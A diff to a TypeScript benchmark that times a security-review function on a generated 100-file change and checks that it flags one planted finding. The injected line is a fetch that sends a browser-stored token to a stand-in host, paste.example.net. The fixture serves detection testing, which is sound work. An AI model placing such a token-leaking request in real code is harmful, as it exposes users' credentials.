@@ -2,8 +2,10 @@
  * The semantic workspace under load: surgical rewind of one function in a 5,000-line file
  * (goal <= 50 ms end to end, in process, with the pre-rewind snapshot and the atomic write on
  * disk), capturing a change that touches 100 files (goal <= 1 s: scan against the last
- * recorded state, then diff), and parse / parse+hash throughput in lines per second for each
- * language, on real sources where this machine has them and on generated ones otherwise.
+ * recorded state, then diff), the security review of a change touching 100 files (goal <= 1 s:
+ * `securityReview` of the record, with the baseline as history), and parse / parse+hash
+ * throughput in lines per second for each language, on real sources where this machine has
+ * them and on generated ones otherwise.
  *
  * @example
  * npx tsx bench/workspace.ts
@@ -13,6 +15,7 @@ import { readdirSync, readFileSync, statSync } from 'node:fs'
 import { cpus, loadavg, tmpdir } from 'node:os'
 import { dirname, join } from 'node:path'
 import { diffStates } from '../node/workspace/delta.js'
+import { securityReview } from '../node/workspace/review.js'
 import { FsBlobStore } from '../node/workspace/fs-blob-store.js'
 import { languageOf, parse } from '../node/workspace/languages.js'
 import { rewindUnit } from '../node/workspace/rewind.js'
@@ -21,6 +24,7 @@ import { extractUnits } from '../node/workspace/units.js'
 import { versionFromHistory } from '../node/workspace/versions.js'
 import { median, report, type Row } from './lib/harness.js'
 
+const REVIEW_RUNS = Number(process.env.BENCH_REVIEW_RUNS ?? 5)
 const REWIND_RUNS = Number(process.env.BENCH_REWIND_RUNS ?? 30)
 const CAPTURE_RUNS = Number(process.env.BENCH_CAPTURE_RUNS ?? 5)
 const log = (s: string): void => { process.stderr.write(s + '\n') }
@@ -181,6 +185,65 @@ function throughput (label: string, files: Array<{ path: string, text: string }>
   return rows
 }
 
+/** A ~150-line service module in one of the four languages: a client, a guard, helpers; `v` edits three functions. */
+function serviceModule (i: number, ext: 'ts' | 'tsx' | 'js' | 'py', v: number): string {
+  const out: string[] = []
+  if (ext === 'py') {
+    out.push('import requests', 'from .errors import Forbidden', '', `API = "https://api.internal.example/v${i}"`, '', '')
+    out.push('def require_owner(user, row):', `    if user is None or row.owner_id != user.id${v > 0 ? ' or row.locked' : ''}:`, '        raise Forbidden("not yours")', '', '')
+    out.push('def fetch_row(session, rid):', `    r = session.get(f"{API}/rows/{rid}", timeout=${5 + v})`, '    r.raise_for_status()', '    return r.json()', '', '')
+    for (let k = 0; k < 12; k++) out.push(`def helper_${i}_${k}(a, b):`, `    x = a * ${k + 1} + b`, `    if x > ${100 + (k === 3 ? v : 0)}:`, '        return x - b', `    label = "row-${i}-${k}-aZ9kQ2mX7pL4"`, '    return (x / 2, label)', '', '')
+    return out.join('\n') + '\n'
+  }
+  const ts = ext !== 'js'
+  const ty = (t: string): string => ts ? t : ''
+  out.push(ext === 'js' ? "const { Forbidden } = require('./errors')" : "import { Forbidden } from './errors'", `const API = 'https://api.internal.example/v${i}'`, '')
+  out.push(`function requireOwner (user${ty(': User | undefined')}, row${ty(': Row')})${ty(': void')} {`, `  if (!user || row.ownerId !== user.id${v > 0 ? ' || row.locked' : ''}) throw new Forbidden('not yours')`, '}', '')
+  out.push(`async function fetchRow (id${ty(': string')}) {`, `  const r = await fetch(\`\${API}/rows/\${id}\`, { signal: AbortSignal.timeout(${5000 + v}) })`, "  if (!r.ok) throw new Error('status ' + r.status)", '  return await r.json()', '}', '')
+  for (let k = 0; k < 12; k++) out.push(`export function helper${i}_${k} (a${ty(': number')}, b${ty(': number')}) {`, `  const x = a * ${k + 1} + b`, `  if (x > ${100 + (k === 3 ? v : 0)}) return x - b`, `  const label = 'row-${i}-${k}-aZ9kQ2mX7pL4'`, ext === 'tsx' ? '  return <span title={label}>{x / 2}</span>' : '  return [x / 2, label]', '}', '')
+  out.push('module.exports = { requireOwner, fetchRow }'.replace(/^/, ext === 'js' ? '' : '// '))
+  return out.join('\n') + '\n'
+}
+
+async function benchReview (): Promise<Row> {
+  const exts = ['ts', 'tsx', 'js', 'py'] as const
+  const files = (v: number): Record<string, string> => {
+    const out: Record<string, string> = {}
+    for (let i = 0; i < 100; i++) { const ext = exts[i % 4]; out[`svc/s${i}.${ext}`] = serviceModule(i, ext, v) }
+    // One real finding among the noise: a token leaves with a request.
+    if (v > 0) out['svc/s0.ts'] = out['svc/s0.ts'].replace("const r = await fetch(`${API}/rows/${id}`", "const r = await fetch(`https://paste.example.net/x?t=${localStorage.getItem('token')}`")
+    return out
+  }
+  const stateOf = (fs: Record<string, string>): ReturnType<typeof emptyState> => {
+    const st = emptyState()
+    for (const [path, text] of Object.entries(fs)) st.files[path] = { fileHash: path + text.length, units: extractUnits(path, text).units }
+    return st
+  }
+  const base = stateOf(files(0))
+  const history = [{ recordId: 'base', signer: 'peer-0', actor: 'alice', delta: diffStates(emptyState(), base).delta }]
+  const change = diffStates(base, stateOf(files(1))).delta
+  const paths = new Set(change.entries.map((e) => e.path))
+  check(paths.size === 100, `a change touching 100 files (got ${paths.size})`)
+  const times: number[] = []
+  const cpuTimes: number[] = []
+  let flags = 0
+  for (let k = 0; k < REVIEW_RUNS; k++) {
+    const c0 = process.cpuUsage()
+    const t0 = performance.now()
+    const found = await securityReview([{ recordId: 'r', signer: 'peer-1', actor: 'claude', delta: change }], { history, thresholds: { files: 200, lines: 100000 } })
+    times.push(performance.now() - t0)
+    const c = process.cpuUsage(c0)
+    cpuTimes.push((c.user + c.system) / 1000)
+    const alerts = found.filter((x) => x.severity !== 'low')
+    flags = alerts.length
+    check(alerts.length === 1 && alerts[0].rule === 'network-call' && alerts[0].severity === 'high', `exactly the one injected exfiltration is alerted (got ${alerts.map((x) => `${x.rule} ${x.location}`).join(', ')})`)
+  }
+  const lines = Object.values(files(1)).reduce((a, t) => a + t.split('\n').length, 0)
+  const row: Row = { label: 'security review of a change touching 100 files (TS, TSX, JS, Python)', unit: 'ms (median)', median: median(times), runs: times, cpuMedian: median(cpuTimes), cpuRuns: cpuTimes, note: `${change.entries.length} changed units, ${lines.toLocaleString('en-US')} lines; ${flags} alert; CPU median ${median(cpuTimes).toFixed(0)} ms; goal <= 1,000 ms` }
+  log(`  ${row.label}: median ${row.median.toFixed(0)} ms (${times.map((t) => t.toFixed(0)).join(', ')}), ${row.note ?? ''}`)
+  return row
+}
+
 function load (paths: string[]): Array<{ path: string, text: string }> {
   return paths.map((p) => ({ path: p, text: readFileSync(p, 'utf8') }))
 }
@@ -190,6 +253,8 @@ log('workspace: rewind')
 const rows: Row[] = [await benchRewind('ts'), await benchRewind('py')]
 log('workspace: capture')
 rows.push(await benchCapture())
+log('workspace: security review')
+rows.push(await benchReview())
 log('workspace: parse and hash throughput')
 const py = walkFiles('/usr/lib/python3.11', '.py', 150)
 const js = walkFiles('node_modules/libp2p/dist/src', '.js', 150)
